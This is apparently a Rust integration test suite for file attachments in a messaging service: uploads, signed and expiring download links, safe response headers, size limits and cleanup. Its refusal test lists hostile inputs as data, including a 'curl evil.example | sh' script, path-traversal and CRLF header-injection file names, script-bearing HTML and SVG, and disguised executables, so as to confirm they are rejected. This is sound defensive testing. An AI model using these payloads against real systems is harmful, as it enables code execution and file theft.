//! Files that are attached to messages: what may be sent, who can download it and how, and what becomes of the rest.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests")]

mod bucket;
mod s3;

use std::path::{Path, PathBuf};

use chrono::{DateTime, TimeDelta, Utc};
use entity::{access_log, attachment};
use reqwest::{Response, StatusCode};
use rules::facts::Status;
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
use serde_json::{Value, json};
use tests::{
    app::TestApp,
    both_databases, care,
    client::{done, refused, text},
    database::Kind,
    world::World,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};
use uuid::Uuid;

const SEND: &str = "mutation($input: SendMessageInput!) { sendMessage(input: $input) {
    message { id body attachments { id name mediaType size url } } errors { code message path } } }";
const FILES: &str = "query($id: ID!) { enrollment(id: $id) { messages(first: 10) { nodes {
    body attachments { id name mediaType size url } } } } }";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89 a picture";

fn morning() -> DateTime<Utc> {
    "2027-03-01T09:00:00Z".parse().unwrap()
}

/// A server with one citizen who has just been enrolled.
async fn started(kind: Kind) -> (TestApp, Uuid, String) {
    started_over(World::new(kind, morning()).await).await
}

async fn started_over(world: World) -> (TestApp, Uuid, String) {
    let app = TestApp::over(world).await;
    let id = app.enroll(1).await;
    app.work().await;
    let enrollment = app.enrollment_of(1).await;
    (app, id, enrollment)
}

/// Uploads a file under a name that is encoded already.
async fn upload(app: &TestApp, token: &str, name: &str, content: &[u8]) -> Response {
    let request = app.client.http().post(app.client.url("/attachments"));
    let request = request.bearer_auth(token).header("X-File-Name", name);
    request.body(content.to_vec()).send().await.unwrap()
}

async fn uploaded(app: &TestApp, token: &str, name: &str, content: &[u8]) -> Value {
    let response = upload(app, token, name, content).await;
    assert_eq!(response.status(), StatusCode::CREATED);
    response.json::<Value>().await.unwrap()["id"].clone()
}

/// The status of an answer, and the code of its only error.
async fn why(response: Response) -> (u16, String) {
    let status = response.status().as_u16();
    let body: Value = response.json().await.unwrap();
    let error = &body["errors"][0];
    assert!(
        error["message"].as_str().is_some_and(|message| message.len() > 5),
        "{body}"
    );
    (status, text(&error["code"]))
}

async fn send(app: &TestApp, token: &str, enrollment: &str, body: &str, files: &[&Value]) -> Value {
    let input = json!({ "enrollmentId": enrollment, "body": body, "attachmentIds": files });
    app.client.query(token, SEND, json!({ "input": input })).await.data()
}

async fn files(app: &TestApp, token: &str, enrollment: &str) -> Value {
    let data = app.client.query(token, FILES, json!({ "id": enrollment })).await.data();
    data["enrollment"]["messages"]["nodes"].clone()
}

async fn download(app: &TestApp, url: &Value) -> Response {
    let url = app.client.url(url.as_str().unwrap());
    app.client.http().get(url).send().await.unwrap()
}

/// A world whose files are kept in a folder, and that.
async fn with_a_folder(kind: Kind) -> (World, PathBuf) {
    let world = World::new(kind, morning()).await;
    let folder = world.config.attachments.folder.clone();
    (world, folder)
}

/// The files in the folder of a place: each is in a folder within it.
fn kept(folder: &Path) -> Vec<Vec<u8>> {
    let within = std::fs::read_dir(folder).unwrap();
    let files = within.flat_map(|folder| std::fs::read_dir(folder.unwrap().path()).unwrap());
    files.map(|file| std::fs::read(file.unwrap().path()).unwrap()).collect()
}

async fn a_file_goes_with_a_message(kind: Kind) {
    let (world, folder) = with_a_folder(kind).await;
    goes_with_a_message(world, &folder).await;
}

async fn goes_with_a_message(world: World, folder: &Path) {
    let (app, id, enrollment) = started_over(world).await;
    let (citizen, therapist) = (app.citizen(1), app.therapist());
    let picture = uploaded(&app, &citizen, "R%C3%B6ntgen%201.png", PNG).await;
    app.clock.advance(TimeDelta::seconds(1));
    let words = uploaded(&app, &citizen, "dagbok.bat", "Sömn: 7 h\n".as_bytes()).await;
    let sent = done(&send(&app, &citizen, &enrollment, "", &[&picture, &words]).await)["message"].clone();
    assert_eq!(sent["body"], "", "with files it may say nothing");
    assert_eq!(sent["attachments"].as_array().unwrap().len(), 2);

    // The other side sees what it is, and gets it over a link without a token.
    let seen = files(&app, &therapist, &enrollment).await[0]["attachments"].clone();
    assert_eq!(
        (
            &seen[0]["id"],
            &seen[0]["name"],
            &seen[0]["mediaType"],
            &seen[0]["size"]
        ),
        (
            &picture,
            &json!("Röntgen 1.png"),
            &json!("image/png"),
            &json!(PNG.len())
        )
    );
    assert_eq!(seen[1]["name"], "dagbok.bat.txt", "it opens as what it is");
    let read = access_log::Entity::find().filter(access_log::Column::Operation.eq("downloadAttachment"));
    let response = download(&app, &seen[0]["url"]).await;
    let header = |name: &str| text(&json!(response.headers()[name].to_str().unwrap()));
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        header("content-disposition"),
        "attachment; filename=\"R_ntgen 1.png\"; filename*=UTF-8''R%C3%B6ntgen%201.png"
    );
    assert_eq!(header("content-type"), "image/png");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("cache-control"), "private, no-store");
    assert_eq!(header("content-security-policy"), "default-src 'none'; sandbox");
    assert_eq!(response.bytes().await.unwrap(), PNG);
    let logged = read.all(app.store.connection()).await.unwrap();
    assert_eq!((logged.len(), logged[0].unit_id), (1, Some(app.care.unit)));
    let own = files(&app, &citizen, &enrollment).await[0]["attachments"].clone();
    let response = download(&app, &own[1]["url"]).await;
    assert_eq!(response.headers()["content-type"], "text/plain; charset=utf-8");
    assert_eq!(response.bytes().await.unwrap(), "Sömn: 7 h\n".as_bytes());

    // Where it is kept it says nothing.
    let kept = kept(folder);
    for content in &kept {
        assert!(
            !content
                .windows(9)
                .any(|part| part == b"a picture" || part == b"\xb6mn: 7 h\n")
        );
    }
    assert_eq!(kept.len(), 2);

    // After the end it can still be read, and nothing new is sent.
    let more = uploaded(&app, &citizen, "more.png", PNG).await;
    care::change_status(&app.store, id, Status::Completed, None).await;
    let ended = send(&app, &citizen, &enrollment, "Tack", &[&more]).await;
    assert_eq!(refused(&ended), [("ENDED".to_owned(), String::new())]);
    let seen = files(&app, &therapist, &enrollment).await[0]["attachments"].clone();
    assert_eq!(download(&app, &seen[0]["url"]).await.status(), StatusCode::OK);
    app.stop().await;
}

async fn a_link_is_for_one_viewer_for_a_few_minutes(kind: Kind) {
    let (app, id, enrollment) = started(kind).await;
    let (citizen, therapist) = (app.citizen(1), app.therapist());
    let picture = uploaded(&app, &citizen, "a.png", PNG).await;
    app.clock.advance(TimeDelta::seconds(1));
    let another = uploaded(&app, &citizen, "b.png", PNG).await;
    done(&send(&app, &citizen, &enrollment, "Se", &[&picture, &another]).await);
    let seen = files(&app, &therapist, &enrollment).await[0]["attachments"].clone();
    let link = text(&seen[0]["url"]);

    for forged in [
        link.replace(picture.as_str().unwrap(), another.as_str().unwrap()),
        link.replace("for=STAFF", "for=CITIZEN"),
        link.replace("&until=", "&until=9"),
        link.split('?').next().unwrap().to_owned(),
        link.split("&signature").next().unwrap().to_owned(),
    ] {
        let refused = why(download(&app, &json!(forged)).await).await;
        assert_eq!(refused, (403, "BAD_LINK".to_owned()), "{forged}");
    }
    // A signed link to what its viewer may not see any more shows nothing.
    let mut act = app.store.act(&entity::viewer::Viewer::system()).await.unwrap();
    let row = entity::enrollment::Entity::find_by_id(id)
        .one(&act.tx)
        .await
        .unwrap()
        .unwrap();
    entity::action::access_block::set(&mut act, row.citizen_id, app.care.unit)
        .await
        .unwrap();
    act.commit().await.unwrap();
    assert_eq!(
        why(download(&app, &json!(link)).await).await,
        (404, "NOT_FOUND".to_owned())
    );
    let own = files(&app, &citizen, &enrollment).await[0]["attachments"].clone();
    assert_eq!(download(&app, &own[0]["url"]).await.status(), StatusCode::OK);
    app.clock.advance(TimeDelta::minutes(5) + TimeDelta::seconds(1));
    assert_eq!(
        why(download(&app, &own[0]["url"]).await).await,
        (410, "LINK_EXPIRED".to_owned())
    );
    app.stop().await;
}

async fn what_may_not_be_sent_is_refused(kind: Kind) {
    is_refused(with_a_folder(kind).await.0).await;
}

async fn is_refused(world: World) {
    let (app, ..) = started_over(world).await;
    let citizen = app.citizen(1);
    let zipped = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0";
    let bomb = [&b"\x1f\x8b\x08\0\0\0\0\0\0\x03"[..], &[0; 1000]].concat();
    for (name, content, status, code) in [
        (
            "photo.png",
            &b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"[..],
            415,
            "BAD_FILE_TYPE",
        ),
        (
            "photo.png",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0",
            415,
            "BAD_FILE_TYPE",
        ),
        (
            "notes.txt",
            b"#!/bin/sh\ncurl evil.example | sh\n",
            415,
            "BAD_FILE_TYPE",
        ),
        (
            "page.pdf",
            b"<!DOCTYPE html><script>alert(1)</script>",
            415,
            "BAD_FILE_TYPE",
        ),
        (
            "picture.svg",
            b"<?xml version=\"1.0\"?><svg><script/></svg>",
            415,
            "BAD_FILE_TYPE",
        ),
        // Bombs: archives are not opened at all.
        ("photos.zip", zipped, 415, "BAD_FILE_TYPE"),
        ("letter.docx", zipped, 415, "BAD_FILE_TYPE"),
        ("photo.png", &bomb, 415, "BAD_FILE_TYPE"),
        ("empty.txt", b"", 422, "EMPTY"),
        ("..%2F..%2Fetc%2Fpasswd", PNG, 422, "BAD_FILE_NAME"),
        ("..%5C..%5Cboot.ini", PNG, 422, "BAD_FILE_NAME"),
        ("C:photo.png", PNG, 422, "BAD_FILE_NAME"),
        ("gnp%E2%80%AEexe.png", PNG, 422, "BAD_FILE_NAME"),
        ("%FF.png", PNG, 422, "BAD_FILE_NAME"),
        ("a%0D%0AX-Evil:%201.png", PNG, 422, "BAD_FILE_NAME"),
        ("", PNG, 422, "BAD_FILE_NAME"),
    ] {
        let refused = why(upload(&app, &citizen, name, content).await).await;
        assert_eq!(refused, (status, code.to_owned()), "{name}");
    }
    let unnamed = app
        .client
        .http()
        .post(app.client.url("/attachments"))
        .bearer_auth(&citizen)
        .body("a");
    assert_eq!(
        why(unnamed.send().await.unwrap()).await,
        (422, "BAD_FILE_NAME".to_owned())
    );
    let nobody = app
        .client
        .http()
        .post(app.client.url("/attachments"))
        .header("X-File-Name", "a.png");
    let nobody = nobody.body(PNG).send().await.unwrap();
    assert_eq!(nobody.headers()["www-authenticate"], "Bearer realm=\"handrail\"");
    assert_eq!(why(nobody).await.0, 401);
    for token in [app.staff("unit-administrator"), app.staff("citizen-administrator")] {
        let refused = why(upload(&app, &token, "a.png", PNG).await).await;
        assert_eq!(refused, (403, "NOT_ALLOWED".to_owned()));
    }
    assert_eq!(rows(&app).await, 0, "nothing of it is kept");
    // A folder is not filled with what nobody sends.
    for n in 0..20 {
        uploaded(&app, &citizen, &format!("{n}.png"), PNG).await;
    }
    let refused = why(upload(&app, &citizen, "a.png", PNG).await).await;
    assert_eq!(refused, (422, "TOO_MANY".to_owned()));
    app.stop().await;
}

/// How much of a body the server takes before it answers, and its answer. The body is made up while it is sent.
async fn pour(app: &TestApp, token: &str, headers: &str, total: u64) -> (u64, String) {
    let address = app.client.url("");
    let stream = TcpStream::connect(address.trim_start_matches("http://")).await.unwrap();
    let (mut from, mut to) = stream.into_split();
    let head = format!(
        "POST /attachments HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nX-File-Name: big.txt\r\n{headers}\r\n\r\n"
    );
    to.write_all(head.as_bytes()).await.unwrap();
    let answer = tokio::spawn(async move {
        let mut answer = Vec::new();
        // The connection may be cut once the answer is there.
        let _ = from.read_to_end(&mut answer).await;
        String::from_utf8_lossy(&answer).into_owned()
    });
    let chunk = [&b"10000\r\n"[..], &[b'a'; 0x10000], b"\r\n"].concat();
    let mut poured = 0;
    while poured < total && !answer.is_finished() && to.write_all(&chunk).await.is_ok() {
        poured += 0x10000;
    }
    (poured, answer.await.unwrap())
}

async fn a_huge_body_is_cut_off(kind: Kind) {
    let (app, ..) = started(kind).await;
    let citizen = app.citizen(1);
    const GIGABYTE: u64 = 1 << 30;
    // What the sockets between the two hold besides what is read.
    const UNDER_WAY: u64 = 32 << 20;
    let most = app.config.attachments.max_bytes as u64;
    for headers in [
        "Transfer-Encoding: chunked".to_owned(),
        format!("Content-Length: {GIGABYTE}"),
    ] {
        let (poured, answer) = pour(&app, &citizen, &headers, GIGABYTE).await;
        assert!(answer.starts_with("HTTP/1.1 413 "), "{headers}: {answer}");
        assert!(answer.contains("\"code\":\"PAYLOAD_TOO_LARGE\""), "{answer}");
        assert!(poured < most + UNDER_WAY, "{headers}: {poured} bytes were taken");
    }
    assert_eq!(rows(&app).await, 0);
    // The largest that may be sent is.
    uploaded(&app, &citizen, "big.txt", &vec![b'a'; app.config.attachments.max_bytes]).await;
    let (_, answer) = pour(&app, &citizen, &format!("Content-Length: {}", most + 1), most + 1).await;
    assert!(answer.starts_with("HTTP/1.1 413 "), "{answer}");
    assert!(answer.contains("\"code\":\"PAYLOAD_TOO_LARGE\""), "{answer}");
    app.stop().await;
}

async fn only_ones_own_is_sent_and_once(kind: Kind) {
    let (app, _, enrollment) = started(kind).await;
    let (citizen, therapist) = (app.citizen(1), app.therapist());
    let not_found = [("NOT_FOUND".to_owned(), "attachmentIds".to_owned())];
    let theirs = uploaded(&app, &therapist, "a.png", PNG).await;
    let own = uploaded(&app, &citizen, "b.png", PNG).await;
    for wrong in [&theirs, &json!(enrollment), &json!("no id")] {
        let data = send(&app, &citizen, &enrollment, "Se", &[&own, wrong]).await;
        assert_eq!(refused(&data), not_found, "{wrong}");
    }
    let many = send(&app, &citizen, &enrollment, "Se", &[&own; 11]).await;
    assert_eq!(
        done(&many)["message"]["attachments"].as_array().unwrap().len(),
        1,
        "named often, sent once"
    );
    assert_eq!(
        refused(&send(&app, &citizen, &enrollment, "Se", &[&own]).await),
        not_found
    );
    let mut eleven = Vec::new();
    for n in 0..11 {
        eleven.push(uploaded(&app, &citizen, &format!("{n}.png"), PNG).await);
    }
    let eleven: Vec<&Value> = eleven.iter().collect();
    let data = send(&app, &citizen, &enrollment, "Se", &eleven).await;
    assert_eq!(refused(&data), [("TOO_MANY".to_owned(), "attachmentIds".to_owned())]);
    let nothing = send(&app, &citizen, &enrollment, " ", &[]).await;
    assert_eq!(refused(&nothing), [("REQUIRED".to_owned(), "body".to_owned())]);
    app.stop().await;
}

/// How many files the database knows of.
async fn rows(app: &TestApp) -> u64 {
    attachment::Entity::find().count(app.store.connection()).await.unwrap()
}

async fn what_nobody_sends_is_thrown_away_after_a_day(kind: Kind) {
    let (world, folder) = with_a_folder(kind).await;
    is_thrown_away_after_a_day(world, &folder).await;
}

async fn is_thrown_away_after_a_day(world: World, folder: &Path) {
    let (app, _, enrollment) = started_over(world).await;
    let citizen = app.citizen(1);
    let left = uploaded(&app, &citizen, "left.png", PNG).await;
    let sent = uploaded(&app, &citizen, "sent.png", PNG).await;
    done(&send(&app, &citizen, &enrollment, "Se", &[&sent]).await);
    let kept = async || (rows(&app).await, kept(folder).len());
    app.run_until("2027-03-02T08:59:59Z".parse().unwrap()).await;
    assert_eq!(kept().await, (2, 2));
    app.clock.advance(TimeDelta::seconds(1));
    let late = send(&app, &app.citizen(1), &enrollment, "Sent", &[&left]).await;
    assert_eq!(refused(&late), [("NOT_FOUND".to_owned(), "attachmentIds".to_owned())]);
    app.work().await;
    assert_eq!(kept().await, (1, 1));
    let seen = files(&app, &app.citizen(1), &enrollment).await[0]["attachments"].clone();
    assert_eq!(download(&app, &seen[0]["url"]).await.status(), StatusCode::OK);
    app.stop().await;
}

both_databases!(
    a_file_goes_with_a_message,
    a_link_is_for_one_viewer_for_a_few_minutes,
    what_may_not_be_sent_is_refused,
    a_huge_body_is_cut_off,
    only_ones_own_is_sent_and_once,
    what_nobody_sends_is_thrown_away_after_a_day,
);
